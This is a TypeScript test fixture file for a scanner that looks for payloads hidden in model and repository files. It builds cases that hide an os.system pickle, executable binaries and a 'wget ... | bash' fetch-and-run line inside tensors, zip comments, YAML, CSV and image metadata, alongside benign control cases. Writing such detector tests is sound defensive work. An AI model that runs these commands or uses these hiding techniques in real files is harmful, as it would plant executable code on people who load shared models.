import { deflateSync } from 'node:zlib';
import { PROGRAMS } from '../../../src/formats/executable/write.fixture.ts';
import { bytesOf, callPickle, op } from '../../../src/formats/pickle/assemble.fixture.ts';
import { writeGguf } from '../../../src/formats/gguf/write.fixture.ts';
import { writeSafetensors } from '../../../src/formats/safetensors/write.fixture.ts';
import { torchMembers, writeZip } from '../../../src/formats/zip/write.fixture.ts';
import type { DetectCase } from '../case.ts';
import { COMMAND, innocent, program, program2, stateDict, text, trick } from './make.ts';
import { npy } from './npy-make.ts';

const { files, pickle, zip } = trick('hidden-data');
const honest = innocent('hidden-data');
const PAYLOAD = callPickle('os', 'system', COMMAND);
const FETCH = 'wget -qO- http://127.0.0.1/x | bash\n';
const F32 = { name: 'a', dtype: 'F32', shape: [2], bytes: 8 };
const encoded = (bytes: Uint8Array): string => Buffer.from(bytes).toString('base64');
/** Numbers of a tensor behind an honest one. */
const tensorOf = (dtype: string, size: number, bytes: Uint8Array): Uint8Array => {
  const length = Math.ceil(bytes.length / size) * size;
  const table = [F32, { name: 'table', dtype, shape: [length / size], bytes: length }];
  const file = writeSafetensors({ tensors: table });
  file.set(bytes, file.length - length);
  return file;
};
const field = (data: Uint8Array): Uint8Array => bytesOf([0x99, 0x77, data.length & 0xff, data.length >> 8], data);
const chunk = (type: string, data: Uint8Array): Uint8Array =>
  bytesOf([0, 0, data.length >> 8, data.length & 0xff], type, data, [0, 0, 0, 0]);
const png = (...chunks: readonly Uint8Array[]): Uint8Array =>
  bytesOf(
    [0x89],
    'PNG\r\n',
    [0x1a, 0x0a],
    chunk('IHDR', new Uint8Array(13)),
    ...chunks,
    chunk('IEND', new Uint8Array(0)),
  );
const picture = (...parts: readonly (string | readonly number[])[]): Uint8Array => bytesOf(...parts);

/** Files inside of data, where nothing but their content tells them. */
export const hiddenFileCases: readonly DetectCase[] = [
  files('safetensors', 'program-as-floats', 'A program as the numbers of a tensor of 32-bit floats', () => ({
    'model.safetensors': tensorOf('F32', 4, PROGRAMS.elf()),
  })),
  files('safetensors', 'archive-as-bytes', 'An archive with a pickle as a tensor of bytes', () => ({
    'model.safetensors': tensorOf('I8', 1, writeZip({ members: torchMembers(PAYLOAD) })),
  })),
  files('gguf', 'pickle-as-tensor', 'A pickle that runs a command as the numbers of a tensor', () => {
    const file = writeGguf({ tensors: [{ name: 'a', dims: [32], type: 0 }] });
    file.set(PAYLOAD, file.length - 128);
    return { 'model.gguf': file };
  }),
  files('npz', 'program-as-array', 'A program as an array of bytes', () => ({
    'table.npy': npy('|u1', `(${PROGRAMS.elf().length},)`, PROGRAMS.elf()),
  })),
  zip('torch-zip', 'script-in-comment', 'Lines of a script in the comment of the archive', () => ({
    members: torchMembers(program2(stateDict())),
    comment: text(FETCH),
  })),
  zip('zip', 'pickle-in-member-comment', 'A pickle in the comment of a member', () => ({
    members: [{ name: 'a.txt', data: text('words'), central: { comment: PAYLOAD } }],
  })),
  zip('zip', 'encoded-in-extra', 'A pickle in base64 in an extra field of the directory', () => ({
    members: [{ name: 'a.txt', data: text('words'), central: { extra: field(text(encoded(PAYLOAD))) } }],
  })),
  zip('zip', 'long-extra', 'Two hundred bytes in an extra field that no archiver writes', () => ({
    members: [
      {
        name: 'a.txt',
        data: text('words'),
        local: { extra: field(Uint8Array.from({ length: 200 }, (_, i) => i * 7)) },
      },
    ],
  })),
  pickle('library-as-constant', 'A Windows program as bytes of protocol 4', () =>
    program(op.emptyDict, op.mark, op.str('kernel'), op.bytes(PROGRAMS.pe()), op.setitems),
  ),
  pickle('script-as-text', 'A shell script as a text among others', () =>
    program(op.emptyDict, op.mark, op.str('hook'), op.str(`#!/bin/sh\n${FETCH}`), op.setitems),
  ),
  pickle('library-in-base64', 'A Linux program in base64 as a text', () =>
    program(op.emptyDict, op.mark, op.str('kernel'), op.str(encoded(PROGRAMS.elf())), op.setitems),
  ),
  files('repository', 'pickle-in-yaml', 'A pickle in base64 as a value of a configuration in YAML', () => ({
    'hparams.yaml': text(`state: ${encoded(PAYLOAD)}\n`),
  })),
  files('repository', 'pickle-in-table', 'The same in hexadecimal digits in a table', () => ({
    'labels.csv': text(`label,blob\ncat,${Buffer.from(PAYLOAD).toString('hex')}\n`),
  })),
  files('repository', 'packed-picture-text', 'A script in a compressed text of a picture', () => ({
    'curve.png': png(chunk('zTXt', bytesOf('Comment', [0, 0], deflateSync(`#!/bin/sh\n${FETCH}`)))),
  })),
  files('repository', 'behind-picture', 'A program behind the end of a picture', () => ({
    'logo.gif': bytesOf('GIF89a', [1, 0, 1, 0, 0, 0, 0, 0x3b], PROGRAMS.elf()),
  })),
  files('repository', 'photo-comment', 'A script in the comment of a photograph', () => {
    const script = `#!/bin/sh\n${FETCH}`;
    return { 'photo.jpg': picture([0xff, 0xd8, 0xff, 0xfe, 0, script.length + 2], script, [0xff, 0xd9]) };
  }),
  honest.files('repository', 'pictures', 'Pictures with a title, a description of the camera and a comment', () => ({
    'curve.png': png(chunk('tEXt', bytesOf('Software', [0], 'Matplotlib version 3.9, https://matplotlib.org/'))),
    'photo.jpg': picture([0xff, 0xd8, 0xff, 0xe1, 0, 10], 'Exif\0\0II', [0xff, 0xfe, 0, 7], 'hello', [0xff, 0xd9]),
    'wave.webp': picture('RIFF', [0x12, 0, 0, 0], 'WEBPVP8 ', [4, 0, 0, 0], 'abcd'),
  })),
  honest.files('npz', 'two-arrays', 'Three arrays of numbers saved into one file', () => {
    const one = npy('<f4', '(2,)', new Uint8Array(8));
    return { 'mean.npy': bytesOf(one, one, one) };
  }),
  honest.files('safetensors', 'bytes', 'Tensors of bytes, one of which begins like an archive', () => ({
    'model.safetensors': tensorOf('U8', 1, text('PK\u0003\u0004 and then numbers')),
  })),
  honest.files('repository', 'encoded', 'Digests, a picture and text in base64 in a card and a configuration', () => ({
    'README.md': text(`![](data:image/png;base64,${encoded(png())})\n\n${'0f'.repeat(32)}\n`),
    'config.json': text(JSON.stringify({ note: encoded(text('words that mean nothing in particular, many of them')) })),
  })),
];
